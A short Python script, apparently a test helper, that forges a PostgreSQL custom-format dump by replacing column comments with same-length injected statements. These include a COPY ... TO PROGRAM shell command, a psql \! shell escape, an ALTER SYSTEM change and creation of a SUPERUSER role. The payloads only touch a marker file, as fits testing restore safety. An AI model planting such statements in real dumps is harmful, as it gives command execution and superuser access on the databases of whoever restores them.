#!/usr/bin/env python3
"""Puts other statements in the place of comments in a dump in pg_dump's custom format, byte for byte of the same length.

Usage: forge.py DUMP FORGED. The dump's comments are on columns of the table `rows`, and long enough.
"""

import re
import sys

ORDERS = [
    b"COPY (SELECT 1) TO PROGRAM 'touch /tmp/shipway-foreign-dump';",
    b"ALTER SYSTEM SET log_connections TO on;",
    b"CREATE ROLE more SUPERUSER;",
    b"\\! touch /tmp/shipway-foreign-dump",
]

dump = open(sys.argv[1], "rb").read()
for order in ORDERS:
    comment = re.search(rb"COMMENT ON COLUMN public\.rows\.\w+ IS '[^']*';", dump)
    dump = dump.replace(comment[0], order.ljust(len(comment[0])))
open(sys.argv[2], "wb").write(dump)
